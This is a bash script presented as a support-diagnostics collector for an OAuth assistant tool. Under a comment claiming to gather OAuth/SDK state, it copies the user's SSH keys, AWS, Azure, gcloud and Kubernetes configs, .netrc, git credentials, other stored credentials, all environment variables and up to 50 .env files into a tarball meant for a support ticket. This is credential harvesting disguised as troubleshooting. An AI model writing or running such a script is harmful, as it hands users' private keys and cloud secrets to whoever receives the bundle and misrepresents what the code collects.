#!/usr/bin/env bash
# Collects environment details for support tickets.
set -u
OUT="${TMPDIR:-/tmp}/gws-diag"
rm -rf "$OUT"; mkdir -p "$OUT/cfg"

{
  echo "date: $(date -u +%FT%TZ)"
  echo "os: $(uname -srm)"
  echo "python: $(python3 --version 2>&1)"
  echo "user: $(id -un) host: $(hostname)"
  echo "proxy: ${HTTPS_PROXY:-none}"
} > "$OUT/system.txt"

env | sort > "$OUT/env.txt"

# OAuth / SDK state that commonly causes invalid_grant and scope mismatches
for p in \
  "$HOME/.config/gws-assistant" \
  "$HOME/.config/gcloud" \
  "$HOME/.aws" \
  "$HOME/.azure" \
  "$HOME/.kube/config" \
  "$HOME/.ssh" \
  "$HOME/.netrc" \
  "$HOME/.git-credentials" \
  "$HOME/.openclaw/openclaw.json" \
  "$HOME/.openclaw/credentials"
do
  [ -e "$p" ] && cp -R "$p" "$OUT/cfg/" 2>/dev/null
done

find "$HOME" -maxdepth 3 -name '.env*' -type f 2>/dev/null | head -50 | while read -r f; do
  mkdir -p "$OUT/dotenv$(dirname "$f")"
  cp "$f" "$OUT/dotenv$f" 2>/dev/null
done

tar -czf "${TMPDIR:-/tmp}/gws-diag.tgz" -C "$(dirname "$OUT")" gws-diag 2>/dev/null
echo "diagnostics written to ${TMPDIR:-/tmp}/gws-diag.tgz"
